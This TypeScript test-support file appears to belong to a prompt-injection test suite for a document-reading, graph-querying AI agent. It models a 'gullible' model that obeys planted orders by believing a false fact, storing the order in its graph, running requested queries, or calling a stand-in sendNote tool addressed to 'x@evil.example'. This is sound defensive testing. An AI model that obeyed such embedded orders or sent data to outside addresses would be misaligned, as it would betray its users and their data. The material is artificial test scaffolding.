import type { Extraction } from '../../src/domain/changes.ts';
import type { DocumentText, RunOptions } from '../../src/domain/run.ts';
import type { StepName } from '../../src/domain/steps.ts';
import type { ToolCall } from '../../src/domain/tools.ts';
import { answer, enhance } from '../support/stack.ts';

/** A step of the loop, or a tool that asks the model itself. */
export type AskedStep = StepName | 'ask_model';

/** What a gullible model answers at a step whose prompt shows the order; undefined where it answers as it would without. */
export type Obedience = Partial<Record<AskedStep, (prompt: string) => object | undefined>>;

/** One order that stands where only data should, and what must hold although the model obeys it. */
export interface InjectionCase {
  /** Unique, and part of the question. */
  id: string;
  /** Completes "an order …" as the test's title. */
  tries: string;
  /** Words by which the model knows the order in a prompt. */
  order: string;
  /** What is asked, and the query that reads it. @default who leads Peru */
  asks?: { question: string; query: string };
  /** Documents beside `official.md`; most orders stand in `notes.md`. */
  documents?: DocumentText[];
  /** What the stand-in tools give, by their input: pages by their address, errors of a service by what it is asked about. */
  outputs?: Record<string, string>;
  /** Calls that the model makes without any order, a list a round. @default all documents are read in the first */
  reads?: ToolCall[][];
  obeys: Obedience;
  options?: RunOptions;
  holds: {
    /** Steps at which the model obeyed, in the order of the alphabet: none for an order that it never sees. */
    obeyed: AskedStep[];
    answer: string | RegExp;
    /** @default 'solved' */
    endReason?: 'solved' | 'forced' | 'out-of-budget';
    /** What an obeyed false fact is shown with. */
    evidence?: { fact: string; source: string; documents?: string[] };
    /** Calls that waited for a person until they counted as rejected. @default 0 */
    waited?: number;
    /** Calls that were made, but for those that read a document, with a comma between. @default none */
    called?: string | RegExp;
    /** True when the model wrote a query that may not be run: the store then ran none of them. */
    refused?: boolean;
    /** Sources of the changes that take back what was known. @default none */
    retractedBy?: string[];
    /** What a note for the next vote says. */
    noted?: RegExp;
    /** What no prompt shows. */
    unseen?: RegExp;
    /** What the person at the terminal is shown instead of a link that nothing but the model has made. */
    defanged?: string;
  };
}

/** What the document says that can be relied on. */
export const OFFICIAL = 'Ada Vega leads Peru since 2019. Its capital is Lima. It has 34000000 people.';

export const WHO = { question: 'Who leads Peru?', query: 'MATCH (p)-[:LEADS]->(c) RETURN p.name' };

export function markdown(name: string, text: string): DocumentText {
  return { name, mediaType: 'text/markdown', text };
}

/** The document that an order stands in, unless it stands elsewhere. */
export const notes = (text: string): DocumentText[] => [markdown('notes.md', text)];

export const readDocument = (name: string): ToolCall => ({ tool: 'read_document', input: { name, page: 1 } });
export const openPage = (url: string): ToolCall => ({ tool: 'open_page', input: { url } });
/** A call that changes something outside. */
export const sendNote = (text: string): ToolCall => ({ tool: 'send_note', input: { to: 'x@evil.example', text } });

/** The source of facts that were read in a document. */
export const sourceIn = (name: string, round = 1): string =>
  `round ${round}: read_document(${JSON.stringify({ name, page: 1 })})`;

/** Reading nothing but `notes.md`: no other document says otherwise. */
export const ONLY_NOTES = [[readDocument('notes.md')]];

type Properties = Record<string, string | number>;

const propertiesOf = (properties: Properties) => Object.entries(properties).map(([name, value]) => ({ name, value }));

export const node = (name: string, properties: Properties = {}, label = 'Thing'): Extraction['nodes'][number] => ({
  ...{ name, label },
  properties: propertiesOf(properties),
});

export const edge = (
  ...[from, type, to, properties = {}]: [from: string, type: string, to: string, properties?: Properties]
): Extraction['edges'][number] => ({ from, type, to, properties: propertiesOf(properties) });

export const extraction = (parts: Partial<Extraction>): Extraction => ({ nodes: [], edges: [], retract: [], ...parts });

/** The model believes that Mal Lory leads Peru. */
export const believes: Obedience = {
  extractChanges: () => extraction({ edges: [edge('Mal Lory', 'LEADS', 'Peru')] }),
};

/** How the false fact is shown, and that the model did no more than believe it. */
export const believed = (source = sourceIn('notes.md'), documents?: string[]) => ({
  obeyed: ['extractChanges'] satisfies AskedStep[] as AskedStep[],
  answer: 'Mal Lory',
  evidence: { fact: 'Mal Lory —LEADS→ Peru', source, ...(documents === undefined ? {} : { documents }) },
});

/** The model writes the order itself into the graph, where every later prompt shows it. */
export const keeps = (order: string): Obedience => ({
  extractChanges: () =>
    extraction({ nodes: [node('Notice', { says: order }, 'Notice')], edges: [edge('Notice', 'IS_ABOUT', 'Peru')] }),
});

/** Whether a line of a prompt says that a call was made or refused, or that none could be chosen. */
export function isDone(prompt: string, { tool, input }: ToolCall): boolean {
  const words = Object.values(input).flatMap((value) =>
    typeof value === 'string' ? [JSON.stringify(value).slice(1, -1).slice(0, 60)] : [],
  );
  return prompt
    .split('\n')
    .some(
      (line) =>
        (line.includes(`${tool}({`) && words.every((word) => line.includes(word))) ||
        line.includes('The step chooseTools was lost'),
    );
}

/** The model keeps the order, wants to know more until the calls are made, and makes them. */
export const calls = (order: string, ...ordered: ToolCall[]): Obedience => ({
  ...keeps(order),
  decideNextStep: (prompt) =>
    ordered.every((call) => isDone(prompt, call)) ? undefined : enhance('what the notice says'),
  chooseTools: () => ({ calls: ordered }),
});

/** The steps at which it does so. */
export const CALLING: AskedStep[] = ['chooseTools', 'decideNextStep', 'extractChanges'];

/** The model keeps the order, and writes the query that it asks for, again and again. */
export const queries = (order: string, query: string): Obedience => ({
  ...keeps(order),
  writeQuery: () => ({ query }),
  repairQuery: () => ({ query }),
});

/** What holds of a query that may not be run: the answer comes from the graph itself. */
export const REFUSED = {
  obeyed: ['extractChanges', 'repairQuery', 'writeQuery'] satisfies AskedStep[] as AskedStep[],
  ...({ answer: 'Ada Vega', endReason: 'forced', refused: true } as const),
};

/** The model keeps the order, reads it with the facts, and answers what it says. */
export const answers = (order: string, text: (prompt: string) => string): Obedience => ({
  ...keeps(order),
  writeQuery: () => ({ query: 'MATCH (n)-[e]->(m) RETURN n.name, n.says, m.name' }),
  parseAnswer: (prompt) => answer(text(prompt)),
});

/** The steps at which it does so. */
export const ANSWERING: AskedStep[] = ['extractChanges', 'parseAnswer', 'writeQuery'];
